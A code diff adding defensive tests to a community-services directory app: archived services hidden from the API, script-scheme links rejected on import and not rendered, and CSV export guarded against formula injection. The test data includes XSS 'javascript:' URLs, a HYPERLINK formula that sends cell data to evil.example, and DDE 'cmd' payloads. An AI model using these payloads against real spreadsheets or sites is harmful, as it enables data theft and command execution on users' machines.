@@ -728,3 +728,97 @@ async def test_district_admins_download_check_and_load_hsds_in_the_console(clien
         files={"file": ("directory.json", download.content, "application/json")},
     )
     assert loaded.status_code == 200 and 'data-testid="hsds-written"' in loaded.text
+
+
+async def test_api_serves_no_archived_entry(directory: AsyncTestClient) -> None:
+    client = directory
+    [link] = await ServiceAtLocation.select().limit(1)
+    service_id = str(link["service"])
+    [row] = await Service.select(Service.organization).where(Service.id == link["service"])
+    await Service.update({Service.status: "inactive"}).where(Service.id == link["service"])  # archived
+    assert (await client.get(f"/resources/{service_id}")).status_code == 404  # as the public page says
+    assert (await client.get(f"/api/hsds/services/{service_id}")).status_code == 404
+    assert (await client.get(f"/api/hsds/service_at_locations/{link['id']}")).status_code == 404
+    listed = (await client.get("/api/hsds/services", params={"per_page": 500})).json()
+    assert service_id not in {s["id"] for s in listed["contents"]}
+    assert listed["total_items"] == await Service.count().where(Service.status == "active")
+    streamed = (await client.get("/api/hsds/services", params={"format": "ndjson"})).text.split("\n")
+    assert service_id not in {json.loads(line)["id"] for line in streamed if line}
+    places = (await client.get("/api/hsds/service_at_locations", params={"per_page": 500})).json()
+    assert str(link["id"]) not in {s["id"] for s in places["contents"]}
+    organization = (
+        await client.get(f"/api/hsds/organizations/{row['organization']}", params={"full_service": "true"})
+    ).json()
+    assert service_id not in {s["id"] for s in organization.get("services", [])}
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["javascript:alert(document.cookie)", "JaVa\tScRiPt:alert(1)", " data:text/html,<script>x</script>"],
+)
+async def test_import_refuses_links_that_would_run_script(
+    directory: AsyncTestClient, tmp_path: Path, url: str
+) -> None:
+    folder = tmp_path / "links"
+    write_csv_package(await directory_records(), folder)
+    _edit_csv(
+        folder / "services.csv",
+        {2: {"url": url}, 3: {"url": "tel:+18165550100"}, 4: {"url": "mailto:a@b.org"}},
+    )
+    _edit_csv(folder / "organizations.csv", {2: {"website": "vbscript:msgbox(1)"}})
+    before = await snapshot()
+
+    report = await import_path(folder, mode=ImportMode.REPLACE)
+
+    assert not report.written and await snapshot() == before
+    problems = [str(e) for e in report.errors]
+    assert len(problems) == 2, problems
+    assert any(p.startswith("services.csv row 2") and "url: should be a web address starting with https://" in p
+               for p in problems)  # fmt: skip
+    assert any(p.startswith("organizations.csv row 2") and "website:" in p for p in problems)
+
+
+async def test_a_stored_script_link_is_never_shown_as_a_link(directory: AsyncTestClient) -> None:
+    [first, second] = await Service.select(Service.id).where(Service.status == "active").limit(2)
+    await Service.update({Service.url: "javascript:alert(document.cookie)"}).where(Service.id == first["id"])
+    await Service.update({Service.url: "tel:+18165550100"}).where(Service.id == second["id"])
+    page = await directory.get(f"/resources/{first['id']}")
+    assert page.status_code == 200
+    assert "javascript:" not in page.text.lower()
+    assert 'href="tel:+18165550100"' in (await directory.get(f"/resources/{second['id']}")).text
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click for help")',
+    "=cmd|' /C calc'!A0",
+    "+1 816 555 0100",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "'Til Dawn shelter",
+]
+
+
+async def test_csv_export_writes_no_formula_and_reads_back_the_same(
+    directory: AsyncTestClient, tmp_path: Path
+) -> None:
+    services = await Service.select(Service.id).order_by(Service.id).limit(len(FORMULAS))
+    for row, text in zip(services, FORMULAS, strict=True):
+        await Service.update({Service.description: text, Service.alternate_name: text}).where(
+            Service.id == row["id"]
+        )
+    before = await snapshot()
+    folder = tmp_path / "export"
+    write_csv_package(await directory_records(), folder)
+    with (folder / "services.csv").open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == [], dangerous
+    assert "'=cmd|' /C calc'!A0" in cells and "''Til Dawn shelter" in cells
+    async with write_transaction(Service._meta.db):
+        await clear_directory()
+    report = await import_path(folder)
+    assert report.errors == [] and report.written
+    assert await snapshot() == before
